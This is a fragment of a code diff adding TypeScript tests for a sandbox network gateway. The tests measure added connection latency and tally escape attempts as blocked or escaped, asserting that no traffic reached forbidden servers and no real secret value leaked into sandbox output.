+        `latency (new TLS connection + GET from inside a sandbox, n=30, median): gateway ${res.gateway?.median_ms?.toFixed(2)} ms, direct ${res.direct?.median_ms?.toFixed(2)} ms, added ${(res.gateway!.median_ms - res.direct!.median_ms).toFixed(2)} ms`,
+      );
+      expect(res.gateway).toMatchObject({ ok: 30 });
+      expect(res.direct).toMatchObject({ ok: 30 });
+    } finally {
+      direct8443 = false;
+    }
+  });
+
+  it('prints N attempts, M blocked, K escaped — and nothing escaped', async () => {
+    await sleep(300);
+    // the whole run, once more: the forbidden servers and the upstream DNS server
+    const stray = hits.map((h) => ({ h, why: forbidden(h) })).filter((x) => x.why && !(x.h.port === 8443));
+    if (stray.length)
+      rows.push({
+        t: 'ALL',
+        id: 'far-side-whole-run',
+        sandbox: '-',
+        verdict: 'escaped',
+        note: stray.map((x) => x.why).join('; '),
+      });
+    if (allOutput.includes(REAL))
+      rows.push({
+        t: 'T20',
+        id: 'real-value-in-sandbox',
+        sandbox: '-',
+        verdict: 'escaped',
+        note: 'sandbox output contained the real value',
+      });
+    const width = (k: keyof Row) => Math.max(...rows.map((r) => r[k].length), 4);
+    const table = rows
+      .map(
+        (r) =>
+          `${r.t.padEnd(width('t'))}  ${r.id.padEnd(width('id'))}  ${r.sandbox.padEnd(width('sandbox'))}  ${r.verdict.padEnd(8)}  ${r.note.slice(0, 140)}`,
+      )
+      .join('\n');
+    const n = rows.length;
+    const m = rows.filter((r) => r.verdict === 'blocked').length;
+    const k = rows.filter((r) => r.verdict === 'escaped').length;
+    const residual = rows.filter((r) => r.verdict === 'residual').length;
+    const broken = rows.filter((r) => r.verdict === 'not-run' || r.verdict === 'invalid').length;
+    console.log(
+      `${table}\n\n${n} attempts, ${m} blocked, ${k} escaped (${residual} documented residual, ${broken} failed to run)`,
+    );
+    expect(world?.exitCode).toBeNull();
+    expect(rows.filter((r) => r.verdict !== 'blocked' && r.verdict !== 'residual')).toEqual([]);
+    expect(k).toBe(0);
+  });
+});
